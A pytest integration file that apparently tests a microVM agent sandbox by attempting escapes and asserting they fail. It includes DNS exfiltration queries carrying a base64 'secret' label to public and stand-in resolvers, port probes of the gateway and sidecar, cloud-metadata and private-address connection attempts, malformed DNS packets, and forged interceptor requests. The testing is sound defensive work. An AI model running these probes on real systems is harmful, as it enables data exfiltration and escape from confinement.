"""A microVM's own holes: its network card, its engine's resolver and gateway, its monitor, its token."""

from __future__ import annotations

import os
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.attacks import inside
from tests.support.family import Family, is_machine
from tests.support.outside import ORDINARY_UID, Account, new_marker

if TYPE_CHECKING:
    from tests.support.lab import Lab, RunningBottle
    from tests.support.outside import World

pytestmark = [pytest.mark.integration, pytest.mark.attack]

#: What the engine gives a machine: its gateway, which is also the only resolver that it names.
GATEWAY = "100.96.0.1"
#: Where the sidecar is, and a neighbour of it in the same range.
HERE, NEIGHBOUR = "198.51.100.1", "198.51.100.2"

_TRY = """
import select, time

def try_tcp(address, port, words):
    "Say how far a connection comes: the guest may see it made before it is refused, but nothing comes of it."
    try:
        with socket.create_connection((address, port)) as sock:
            sock.sendall(words)
            return "answer" if sock.recv(1000) else "closed"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))

def try_udp(datagrams):
    "Send each, then say what came back for each within two seconds."
    found, waiting = {}, {}
    for number, (address, port, words) in enumerate(datagrams):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            sock.sendto(words, (address, port))
            waiting[sock] = number
        except OSError as error:
            found[number] = errno.errorcode.get(error.errno, str(error))
    end = time.monotonic() + 2
    while waiting and (left := end - time.monotonic()) > 0:
        for sock in select.select(list(waiting), [], [], left)[0]:
            number = waiting.pop(sock)
            try:
                found[number] = "answer" if sock.recv(1000) else "empty"
            except OSError as error:
                found[number] = errno.errorcode.get(error.errno, str(error))
    return [found.get(number, "nothing") for number in range(len(datagrams))]

def query(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", kind, 1)
"""


def test_nothing_but_the_sidecars_ports_answers(bottle: RunningBottle, world: World) -> None:
    marker = new_marker("ports")
    found = inside.run(
        bottle,
        _TRY
        + """
words = f"GET /{marker} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()
ports = (1, 22, 25, 81, 444, 853, 3128, 5432, 8080, 8443, 9098, 9100, 65535)
tell(here={port: try_tcp(here, port, words) for port in ports},
     neighbour={port: try_tcp(neighbour, port, words) for port in (53, 80, 443, 9099, 9100, 9420)})
""",
        here=HERE,
        neighbour=NEIGHBOUR,
        marker=marker,
    )
    assert "answer" not in {*found["here"].values(), *found["neighbour"].values()}, found
    assert world.reached(marker) == []
    assert not [address for address, _ in world.records().accepted if address in {HERE, NEIGHBOUR}]
    ports = {line["port"] for line in bottle.audit() if line.get("reason") == "no_route"}
    assert 22 in ports, "a try at another port of the sidecar's address is on record"


def test_the_gateway_leads_to_no_port_of_the_host(lab: Lab, bottle: RunningBottle, world: World) -> None:
    """The engine's own way to allow the host opens every loopback port of it at this address."""
    marker = new_marker("gateway")
    code = """
import socket, sys
with socket.create_server(("127.0.0.1", 0)) as server, open(sys.argv[1], "w") as file:
    print(server.getsockname()[1], file=file, flush=True)
    while True:
        connection, _ = server.accept()
        print("reached", connection.recv(100), file=file, flush=True)
        connection.close()
"""
    told = lab.user_home / "loopback-service"
    pid = world.call(
        "spawn",
        argv=[sys.executable, "-I", "-c", code, str(told)],
        env={},
        cwd="/",
        uid=os.getuid(),
        log=os.devnull,
    )
    while not told.exists() or not told.read_text().endswith("\n"):
        assert world.call("wait", pid=pid, timeout=0.1) is None
    port = int(told.read_text())
    knock = (
        "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1]))).sendall(b'control')"
    )
    assert world.run([sys.executable, "-I", "-c", knock, str(port)]).returncode == 0
    found = inside.run(
        bottle,
        _TRY + "tell(tcp=[try_tcp(gateway, port, marker.encode()) for gateway in gateways])",
        gateways=[GATEWAY, "127.0.0.1", HERE],
        port=port,
        marker=marker,
    )
    assert "answer" not in found["tcp"]
    world.call("kill", pid=pid, number=9)
    world.call("wait", pid=pid, timeout=10)
    assert marker not in told.read_text()
    assert "control" in told.read_text()


def test_no_name_leaves_by_any_resolver(bottle: RunningBottle, world: World) -> None:
    """A machine that may reach an address range asks the host's resolver for every name; ours asks nobody."""
    servers = (GATEWAY, HERE, "8.8.8.8", "192.0.2.53")
    markers = {server: new_marker("dns") for server in servers}
    inside.run(
        bottle,
        _TRY
        + """
names = {server: f"c2VjcmV0.{marker}.allowed.test" for server, marker in markers.items()}
udp = try_udp([(server, 53, query(name, kind)) for server, name in names.items() for kind in (1, 16, 28)])
tell(udp=udp, tcp=[try_tcp(server, 53, struct.pack("!H", len(query(name))) + query(name))
                   for server, name in names.items()])
""",
        markers=markers,
    )
    for server, marker in markers.items():
        assert world.reached(marker) == [], server


def test_no_name_below_a_routes_or_the_sidecars_leaves(bottle: RunningBottle, world: World) -> None:
    """An engine that allows a name also forwards every name below it."""
    marker = new_marker("dns")
    parents = ("allowed.test", "wild.test", "_egress.local", HERE, "1", "x" * 63, "x", "invalid", "localhost")
    names = [f"{marker}.{parent}" for parent in parents]
    bottle.sh(f"for name in {' '.join(names)}; do getent hosts $name; done")
    inside.run(
        bottle,
        _TRY
        + """
datagrams = [query(name, kind) for name in names for kind in (1, 16)]
# A label that is longer than it says, and one that says more than there is: what no resolver would pass on.
head = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + bytes([len(marker)]) + marker.encode()
for tail in (b"\\x40" + b"x" * 64, b"\\xc0\\x0c", b"\\xff" + b"x" * 255):
    datagrams.append(head + tail + b"\\0" + struct.pack("!HH", 1, 1))
try_udp([(gateway, 53, data) for data in datagrams])
tell()
""",
        names=names,
        gateway=GATEWAY,
        marker=marker,
    )
    assert world.reached(marker) == []


def test_each_route_that_is_one_name_resolves_and_no_other(bottle: RunningBottle) -> None:
    found = bottle.sh("for n in allowed.test api.test _egress.local x.wild.test nowhere.test; do "
                      "getent hosts $n | tr -s ' '; done")  # fmt: skip
    assert found.out.splitlines() == [
        f"{HERE} {name}" for name in ("allowed.test", "api.test", "_egress.local")
    ]


def test_no_datagram_leaves(bottle: RunningBottle, world: World) -> None:
    markers = {address: new_marker("udp") for address in (HERE, NEIGHBOUR, GATEWAY, "45.33.250.1")}
    code = """
tell(found=try_udp([(address, port, marker.encode()) for address, marker in markers.items()
                    for port in (443, 9999, 123, 5353)]))
"""
    assert "answer" not in inside.run(bottle, _TRY + code, markers=markers)["found"]
    for address, marker in markers.items():
        assert world.reached(marker) == [], address
        assert world.records().packets_to(address) == frozenset(), address


def test_no_address_beyond_the_sidecars_is_reached(bottle: RunningBottle, world: World) -> None:
    code = (
        _TRY
        + """
tell(found=[try_tcp(address, port, b"x") for address in addresses for port in (80, 443, 9099)])
"""
    )
    addresses = ["45.33.249.7", "10.0.0.1", "192.168.0.1", "169.254.169.254", "100.64.0.1", "172.17.0.1"]
    assert "answer" not in inside.run(bottle, code, addresses=addresses)["found"]
    assert not [address for address, _ in world.records().accepted if address in addresses[:1]]


_PORT = """
import os, sys
sockets = set()
for name in os.listdir(f"/proc/{sys.argv[1]}/fd"):
    try:
        sockets.add(os.readlink(f"/proc/{sys.argv[1]}/fd/{name}"))
    except OSError:
        pass
print(next(int(line.split()[1][-4:], 16) for line in open(f"/proc/{sys.argv[1]}/net/tcp")
           if line.split()[3] == "0A" and f"socket:[{line.split()[9]}]" in sockets))
"""
_KNOCK = """
import socket, sys
port, marker = int(sys.argv[1]), sys.argv[2]
request = f"GET http://allowed.test/{marker} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n".encode()
for first in (b"", b"SMOLICPT\\x01" + bytes(32) + b"\\x04\\x23\\x8b" + socket.inet_aton("198.51.100.1")):
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.sendall(first + request)
        try:
            print(list(sock.recv(100)))
        except ConnectionResetError:
            print("reset")
"""


def test_another_account_of_the_host_gets_nothing_from_the_interceptor(
    lab: Lab, bottle: RunningBottle, world: World
) -> None:
    """It listens on the host's loopback, where every account can connect; the token is what counts."""
    with Family(lab, bottle.launcher_pid, bottle.identity) as family:
        port = world.run([sys.executable, "-I", "-c", _PORT, str(family.sidecar())]).out.strip()
    marker = new_marker("stranger")
    stranger = Account(name="stranger", uid=ORDINARY_UID + 1 if os.getuid() == 0 else os.getuid())
    done = world.run([sys.executable, "-I", "-c", _KNOCK, port, marker], account=stranger)
    assert done.returncode == 0, done.err
    answers = done.out.splitlines()
    assert len(answers) == 2
    assert set(answers) <= {"[13]", "reset"}
    assert world.reached(marker) == []
    reasons = [line["reason"] for line in bottle.audit() if line["event"] == "interceptor"]
    assert {"not_an_engine", "wrong_token"} <= set(reasons)


def test_the_monitor_is_confined_and_knows_no_secret(lab: Lab, bottle: RunningBottle, token: str) -> None:
    with Family(lab, bottle.launcher_pid, bottle.identity) as family:
        (monitor,) = [pid for pid in family.pids if is_machine(pid)]
    fields = dict(
        line.split(":\t", 1)
        for line in Path(f"/proc/{monitor}/status").read_text().splitlines()
        if ":\t" in line
    )
    assert (fields["Seccomp"], fields["NoNewPrivs"]) == ("2", "1")
    assert int(fields["CapEff"], 16) == 0
    assert "0" not in fields["Uid"].split()
    shown = Path(f"/proc/{monitor}/environ").read_bytes() + Path(f"/proc/{monitor}/cmdline").read_bytes()
    for secret in (token, "placeholder-only"):
        assert secret.encode() not in shown


def test_no_value_lies_in_the_engines_files(lab: Lab, bottle: RunningBottle, token: str) -> None:
    """Its database, its logs of the console and the machine's disk: what root wrote inside went to memory."""
    bottle.sh("curl -sS -m 5 https://api.test/warm-up; sync")
    searched = 0
    for folder in (
        lab.user_home / ".cache" / "smolvm" / "vms",
        lab.user_home / ".local" / "share" / "smolvm",
    ):
        for path in folder.rglob("*"):
            if path.is_file() and not path.is_symlink():
                data = path.read_bytes()
                searched += 1
                for secret in (token, "placeholder-only", "BEGIN CERTIFICATE"):
                    assert secret.encode() not in data, path
    assert searched > 5


def test_no_other_socket_family_leads_out(bottle: RunningBottle) -> None:
    """A machine has a device for sockets to its monitor; the agent is not let near it."""
    found = inside.run(
        bottle,
        """
found = {}
for family in range(60):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind).close()
            found.setdefault(str(family), []).append(kind)
        except OSError:
            pass
tell(**found)
""",
    )
    assert set(found) <= {"1", "2", "10", "16"}, found  # unix, IPv4, IPv6, netlink


def test_the_machines_disks_and_devices_are_not_the_agents(bottle: RunningBottle) -> None:
    assert bottle.sh("ls -d /storage /workspace /dev/net /dev/vda /dev/kvm 2>/dev/null").out == ""
    assert bottle.sh("test -w / || test -w /etc || test -w /run || test -w /run/bot-bottle").returncode != 0
